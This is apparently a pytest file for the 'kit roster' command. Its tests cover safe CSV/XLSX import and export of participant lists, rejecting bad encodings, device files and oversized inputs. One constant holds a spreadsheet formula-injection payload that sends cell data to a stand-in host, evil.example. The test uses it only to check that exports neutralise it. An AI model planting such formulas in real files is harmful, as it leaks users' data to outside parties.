"""Rosters that cannot break the kit, and exports that are safe without mangling data (issue 10).

Every test here drives the real command line (``python -m kit roster …`` in a child process,
under a 512 MB address-space limit) against a real SQLite workspace.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import resource
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from kit.workspace import Workspace
from tests.roster.helpers import participants, write_csv

ROOT = Path(__file__).resolve().parents[2]
MEMORY_LIMIT = 512 * 2**20
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def kit(ws: Workspace, *args: str, lang: str | None = None) -> subprocess.CompletedProcess[str]:
    """Run ``python -m kit ARGS --workspace WS`` as a child process with limited memory."""
    env = {"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "PYTHONIOENCODING": "utf-8"}
    lang_args = ["--lang", lang] if lang else []
    return subprocess.run([sys.executable, "-m", "kit", *lang_args, *args,
                           "--workspace", str(ws.root)], capture_output=True, text=True,
                          encoding="utf-8", env=env, cwd=ws.root, timeout=120, check=False,
                          preexec_fn=_limit_memory)


def one_line(text: str) -> str:
    """The only non-empty line of ``text`` (fails if there are several)."""
    lines = [line for line in text.splitlines() if line.strip()]
    assert len(lines) == 1, text
    return lines[0]


def test_control_characters_are_stripped_with_a_warning_and_the_xlsx_export_opens(
        tmp_path: Path, ws: Workspace) -> None:
    """NUL, C0/C1 controls, RLO and zero-width characters are stripped, reported, and exportable."""
    path = tmp_path / "kontrol.csv"
    path.write_bytes(
        "Nama,Nama Usaha,No HP,Kabupaten/Kota\r\n"
        "Siti\x00 Rahayu,Batik\x07 Siti,0812\x1b-3456-7890,Kabupaten Sragen\r\n"
        "Budi \u202eSantoso\u200b,\x85Keripik,,Kabupaten\u200d Sragen\r\n"
        "Dewi Lestari,Warung\x7f Dewi,,Kota Solo\r\n".encode())
    result = kit(ws, "roster", "import", str(path))
    assert result.returncode == 0, result.stderr
    assert f"{path}:2:Nama:" in result.stdout and f"{path}:2:No HP:" in result.stdout
    assert f"{path}:3:Kabupaten/Kota:" in result.stdout
    assert f"{path}:4:Nama Usaha:" in result.stdout
    stored = {(p.name, p.business_name, p.phone, p.district) for p in participants(ws)}
    assert stored == {
        ("Siti Rahayu", "Batik Siti", "+6281234567890", "Kabupaten Sragen"),
        ("Budi Santoso", "Keripik", None, "Kabupaten Sragen"),
        ("Dewi Lestari", "Warung Dewi", None, "Kota Solo"),
    }
    out = tmp_path / "peserta.xlsx"
    exported = kit(ws, "roster", "export", "--out", str(out))
    assert exported.returncode == 0, exported.stderr
    rows = list(openpyxl.load_workbook(out).active.iter_rows(min_row=2, values_only=True))
    assert sorted(str(r[1]) for r in rows) == ["Budi Santoso", "Dewi Lestari", "Siti Rahayu"]


def test_a_latin1_csv_is_refused_naming_row_and_column(tmp_path: Path, ws: Workspace) -> None:
    """Bytes that are not UTF-8 refuse the file in one line with row and column; nothing stored."""
    path = write_csv(tmp_path / "latin1.csv", [
        "Nama,Nama Usaha,Kabupaten/Kota", "Siti Rahayu,Batik,Sragen", "Budi,Café Budi,Sragen",
    ], encoding="latin-1")
    result = kit(ws, "roster", "import", str(path))
    assert result.returncode == 2
    line = one_line(result.stderr)
    assert line.startswith(f"{path}:3:Nama Usaha: ")
    assert "UTF-8" in line and "0xE9" in line
    english = kit(ws, "roster", "import", str(path), lang="en")
    assert "save it as CSV UTF-8" in one_line(english.stderr)
    assert participants(ws) == []


@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "folder", "30-mb"])
def test_devices_fifos_folders_and_huge_files_are_refused_before_reading(
        tmp_path: Path, ws: Workspace, kind: str) -> None:
    """/dev/zero, a FIFO, a folder and a 30 MB file are refused with one line, memory bounded."""
    if kind == "dev-zero":
        path = Path("/dev/zero")
    elif kind == "fifo":
        path = tmp_path / "pipa.csv"
        os.mkfifo(path)
    elif kind == "folder":
        path = tmp_path / "folder.csv"
        path.mkdir()
    else:
        path = tmp_path / "besar.csv"
        with path.open("wb") as f:
            f.write(b"Nama,Kabupaten/Kota\r\n")
            line = b"Siti Rahayu binti Slamet Riyadi,Kabupaten Sragen\r\n"
            f.write(line * (30 * 2**20 // len(line)))
    result = kit(ws, "roster", "import", str(path))
    assert result.returncode == 2, result.stderr
    line = one_line(result.stderr)
    assert line.startswith(f"{path}: ")
    expected = "20 MB" if kind == "30-mb" else "bukan berkas biasa"
    assert expected in line
    assert participants(ws) == []


def test_too_many_rows_are_refused(tmp_path: Path, ws: Workspace) -> None:
    """A small file with more rows than the documented limit is refused, nothing stored."""
    from kit.roster.read import MAX_ROWS

    path = tmp_path / "baris.csv"
    path.write_bytes(b"Nama,Kabupaten/Kota\n" + b"a,b\n" * (MAX_ROWS + 1))
    result = kit(ws, "roster", "import", str(path))
    assert result.returncode == 2
    assert str(MAX_ROWS) in one_line(result.stderr)
    assert participants(ws) == []


@pytest.mark.parametrize("name", ["daftar.pdf", "daftar.xlsm", "daftar"])
def test_export_refuses_a_file_name_of_another_format(tmp_path: Path, ws: Workspace,
                                                      name: str) -> None:
    """``--out x.pdf`` (or .xlsm, or no extension) is refused in one line; nothing is written."""
    out = tmp_path / name
    result = kit(ws, "roster", "export", "--out", str(out))
    assert result.returncode == 2
    assert str(out) in one_line(result.stderr)
    assert not out.exists()


def test_export_refuses_a_format_contradicting_the_extension(tmp_path: Path,
                                                             ws: Workspace) -> None:
    """``--format csv --out x.xlsx`` is refused: the file would not open as its name says."""
    out = tmp_path / "daftar.xlsx"
    result = kit(ws, "roster", "export", "--format", "csv", "--out", str(out))
    assert result.returncode == 2
    assert ".xlsx" in one_line(result.stderr)
    assert not out.exists()


def _xlsx_rows(path: Path) -> dict[str, openpyxl.cell.cell.Cell]:
    """Cells of the Name column of an exported XLSX by participant id."""
    sheet = openpyxl.load_workbook(path).active
    return {str(row[0].value): row for row in sheet.iter_rows(min_row=2)}


def test_formulas_are_stored_as_given_and_neutralised_only_on_export(tmp_path: Path,
                                                                     ws: Workspace) -> None:
    """Dangerous text is stored as typed; CSV gets ', XLSX quotePrefix; phones neither."""
    path = tmp_path / "rumus.csv"
    quoted = '"' + HYPERLINK.replace('"', '""') + '"'
    path.write_bytes((
        "Nama,No HP,Nama Usaha,Kabupaten/Kota\r\n"
        f"{quoted},0812-3456-7890,Batik,Sragen\r\n"
        "\uff1d1+1,+62 857 1234 5678,\uff20SUM(A1),Sragen\r\n"
        "Siti Rahayu,081398765432,-,Sragen\r\n").encode())
    result = kit(ws, "roster", "import", str(path))
    assert result.returncode == 0, result.stderr
    stored = {p.name: p for p in participants(ws)}
    assert set(stored) == {HYPERLINK, "\uff1d1+1", "Siti Rahayu"}
    assert stored["\uff1d1+1"].business_name == "\uff20SUM(A1)"
    listed = {p["name"] for p in json.loads(kit(ws, "roster", "list").stdout)}
    assert listed == set(stored)
    ids = {p.name: p.id for p in participants(ws)}

    out_csv, out_xlsx = tmp_path / "ekspor.csv", tmp_path / "ekspor.xlsx"
    assert kit(ws, "roster", "export", "--out", str(out_csv)).returncode == 0
    assert kit(ws, "roster", "export", "--out", str(out_xlsx)).returncode == 0
    rows = {r[0]: r for r in csv.reader(io.StringIO(
        out_csv.read_bytes().decode("utf-8-sig"), newline=""))}
    header = rows.pop("ID")
    name, phone, business = (header.index(h) for h in ("Nama", "No. HP/WA", "Nama Usaha"))
    assert rows[ids[HYPERLINK]][name] == "'" + HYPERLINK
    assert rows[ids[HYPERLINK]][phone] == "+6281234567890"
    assert rows[ids["\uff1d1+1"]][name] == "'\uff1d1+1"
    assert rows[ids["\uff1d1+1"]][business] == "'\uff20SUM(A1)"
    assert rows[ids["\uff1d1+1"]][phone] == "+6285712345678"
    assert rows[ids["Siti Rahayu"]][name] == "Siti Rahayu"

    cells = _xlsx_rows(out_xlsx)
    for person in (HYPERLINK, "\uff1d1+1"):
        cell = cells[ids[person]][name]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (person, "s", True)
    assert cells[ids["\uff1d1+1"]][business].quotePrefix
    for person in stored:
        cell = cells[ids[person]][phone]
        assert str(cell.value).startswith("+62") and not cell.quotePrefix
    assert (cells[ids["Siti Rahayu"]][name].value, cells[ids["Siti Rahayu"]][name].quotePrefix
            ) == ("Siti Rahayu", False)
    with zipfile.ZipFile(out_xlsx) as zf:
        assert 'quotePrefix="1"' in zf.read("xl/styles.xml").decode()
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_limits_are_checked_while_reading(tmp_path: Path, ws: Workspace,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """An XLSX that unpacks too large, or has too many rows or columns, is refused in one line."""
    from kit.cli import main
    from kit.roster import read
    from tests.roster.helpers import write_xlsx

    path = write_xlsx(tmp_path / "r.xlsx", [["Nama", "Kabupaten/Kota"],
                                            *[[f"Orang {n}", "Sragen"] for n in range(5)]])
    wide = write_xlsx(tmp_path / "w.xlsx", [["Nama", "Kabupaten/Kota", *["x"] * 8]])

    def kit_in_process(target: Path) -> tuple[int, str]:
        err = io.StringIO()
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
            status = main(["roster", "import", str(target), "--workspace", str(ws.root)])
        return status, err.getvalue()

    def refusal(target: Path) -> str:
        status, err = kit_in_process(target)
        assert status == 2
        return one_line(err)

    monkeypatch.setattr(read, "MAX_XLSX_UNPACKED", 1000)
    assert "MB" in refusal(path)
    monkeypatch.setattr(read, "MAX_XLSX_UNPACKED", 200 * 2**20)
    monkeypatch.setattr(read, "MAX_ROWS", 4)
    assert refusal(path).startswith(f"{path}: ") and " 4 " in refusal(path)
    monkeypatch.setattr(read, "MAX_ROWS", 100_000)
    monkeypatch.setattr(read, "MAX_COLUMNS", 5)
    assert " 5 " in refusal(wide)
    assert participants(ws) == []
    monkeypatch.setattr(read, "MAX_COLUMNS", 1_000)
    assert kit_in_process(path)[0] == 0
    assert len(participants(ws)) == 5
